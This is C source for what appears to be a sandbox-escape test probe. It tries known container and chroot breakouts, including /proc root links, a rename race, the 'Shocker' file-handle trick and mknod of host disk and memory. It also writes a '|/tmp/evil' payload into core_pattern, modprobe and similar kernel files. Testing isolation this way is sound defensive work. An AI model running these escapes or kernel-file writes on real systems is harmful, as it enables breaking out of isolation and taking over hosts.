/* Looks for a way out of the root: every known road to the file whose host path is argv[1], which holds
 * "outside". Prints each road that leads there and ends with 1; with 0 if none does. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *target;
static int escapes;

static void escaped(const char *how)
{
    printf("ESCAPED: %s\n", how);
    escapes++;
}

/* Is the host's file there, seen from directory dir? */
static void look(int dir, const char *prefix, const char *how)
{
    char path[8192], text[16] = "";
    snprintf(path, sizeof(path), "%s%s", prefix, target);
    int fd = openat(dir, path, O_RDONLY);
    if (fd < 0)
        return;
    if (read(fd, text, sizeof(text) - 1) > 0 && strncmp(text, "outside", 7) == 0)
        escaped(how);
    close(fd);
}

static void dots(void)
{
    char up[400] = ".";
    for (int i = 0; i < 60; i++)
        strcat(up, "/..");
    look(AT_FDCWD, "", "an absolute path");
    look(AT_FDCWD, up, "dots");
    look(open("/tmp", O_RDONLY | O_DIRECTORY), up, "dots from a descriptor");
    look(open("/", O_PATH | O_DIRECTORY), "..", "dots from the root");
    (void)!symlink(up, "/tmp/up");
    look(AT_FDCWD, "/tmp/up", "a link of dots");
    (void)!symlink("/", "/tmp/root");
    look(AT_FDCWD, "/tmp/root/..", "a link to the root");
}

static void proc(void)
{
    static const char *const roads[] = {"/proc/self/root",
                                        "/proc/self/root/..",
                                        "/proc/1/root",
                                        "/proc/self/cwd/../..",
                                        "/proc/1/cwd/..",
                                        "/proc/thread-self/root/..",
                                        "/proc/self/task/1/root",
                                        "/proc/self/exe/..",
                                        "/proc/self/map_files",
                                        "/proc/self/ns/mnt",
                                        "/proc/../..",
                                        "/sys/../..",
                                        "/dev/..",
                                        "/dev/pts/../../..",
                                        "/dev/fd/../../..",
                                        "/proc/2/root"};
    char path[100];
    for (size_t i = 0; i < sizeof(roads) / sizeof(*roads); i++)
        look(AT_FDCWD, roads[i], roads[i]);
    for (int pid = 1; pid < 40; pid++) {
        for (int fd = 0; fd < 64; fd++) {
            snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
            look(AT_FDCWD, path, path);
            strcat(path, "/..");
            look(AT_FDCWD, path, path);
        }
    }
}

/* The classic: a descriptor that stays outside of a new root, then up from there. */
static void changed_root(void)
{
    if (fork() == 0) {
        (void)!mkdir("/tmp/jail", 0755);
        int fd = open("/", O_RDONLY | O_DIRECTORY);
        if (chroot("/tmp/jail") == 0 && fchdir(fd) == 0) {
            for (int i = 0; i < 60; i++)
                (void)!chdir("..");
            (void)!chroot(".");
            look(AT_FDCWD, "", "chroot and fchdir");
        }
        _exit(escapes);
    }
    int st;
    wait(&st);
    escapes += WEXITSTATUS(st);
}

/* A directory that is moved out from under the one who stands in it. */
static void moved(void)
{
    (void)!mkdir("/tmp/a", 0755);
    (void)!mkdir("/tmp/a/b", 0755);
    (void)!mkdir("/tmp/a/b/c", 0755);
    int stop[2];
    if (pipe(stop) != 0)
        return;
    pid_t pid = fork();
    if (pid == 0) {
        for (;;) {
            (void)!rename("/tmp/a/b/c", "/tmp/c");
            (void)!rename("/tmp/c", "/tmp/a/b/c");
        }
    }
    int jail = open("/tmp/a", O_PATH | O_DIRECTORY);
    for (int i = 0; i < 2000 && !escapes; i++) {
        look(jail, "b/c/../../../..", "a race with rename");
        look(AT_FDCWD, "/tmp/a/b/c/../../../../../..", "a race with rename from the root");
    }
    kill(pid, SIGKILL);
    waitpid(pid, NULL, 0);
}

struct handle {
    unsigned bytes;
    int type;
    unsigned char data[8];
};

/* "Shocker": a file handle of the root's inode, made up. */
static void handles(void)
{
    struct handle h = {8, 1, {2, 0, 0, 0, 0, 0, 0, 0}};
    int mount = open("/etc/passwd", O_RDONLY);
    int fd = (int)syscall(SYS_open_by_handle_at, mount, &h, O_RDONLY);
    if (fd >= 0)
        look(fd, ".", "open_by_handle_at");
}

static void privileges(void)
{
    static const char *const files[] = {"/proc/sysrq-trigger",
                                        "/proc/sys/kernel/core_pattern",
                                        "/proc/sys/kernel/modprobe",
                                        "/proc/sys/vm/panic_on_oom",
                                        "/sys/kernel/uevent_helper",
                                        "/proc/sys/kernel/hostname",
                                        "/proc/self/oom_score_adj/../../sys/kernel/core_pattern"};
    for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
        int fd = open(files[i], O_WRONLY);
        if (fd >= 0 && write(fd, "|/tmp/evil", 10) == 10)
            printf("written: %s\n", files[i]);
        if (fd >= 0)
            close(fd);
    }
    if (mknod("/tmp/disk", S_IFBLK | 0600, makedev(254, 0)) == 0 && open("/tmp/disk", O_RDONLY) >= 0)
        escaped("the host's disk opened");
    if (mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)) == 0 && open("/tmp/mem", O_RDONLY) >= 0)
        escaped("the host's memory opened");
    int log = mknod("/tmp/kmsg", S_IFCHR | 0600, makedev(1, 11)) == 0 ? open("/tmp/kmsg", O_WRONLY) : -1;
    if (log >= 0 && write(log, "written by an attacker\n", 23) == 23) /* escape.sh looks where it arrives */
        printf("a kernel log, whosever it is\n");
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 && mount("none", "/tmp", "tmpfs", 0, NULL) == 0)
        look(AT_FDCWD, "/proc/1/root", "a name space of one's own");
    for (int pid = 1; pid < 300; pid++)
        if (pid != getpid() && pid != getppid() && kill(pid, 0) == 0 && pid > 40)
            printf("a process that should not be: %d\n", pid);
    if (ptrace(PTRACE_ATTACH, 2, NULL, NULL) == 0)
        escaped("attached to what is not ours");
    if (syscall(SYS_bpf, 0, NULL, 0) >= 0 || syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0) >= 0)
        escaped("bpf or perf");
    if (syscall(SYS_userfaultfd, 0) >= 0)
        printf("userfaultfd is there\n");
}

static void sockets(void)
{
    int fd = socket(AF_NETLINK, SOCK_RAW, 9 /* audit */);
    if (fd >= 0)
        printf("an audit socket\n");
    if (socket(AF_VSOCK, SOCK_STREAM, 0) >= 0)
        escaped("a socket to the hypervisor");
    if (socket(38 /* ALG */, SOCK_SEQPACKET, 0) >= 0)
        escaped("the host's cryptography");
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    target = argc > 1 ? argv[1] : "/outside";
    dots();
    proc();
    changed_root();
    moved();
    handles();
    privileges();
    sockets();
    printf("%d ways out\n", escapes);
    return escapes ? 1 : 0;
}
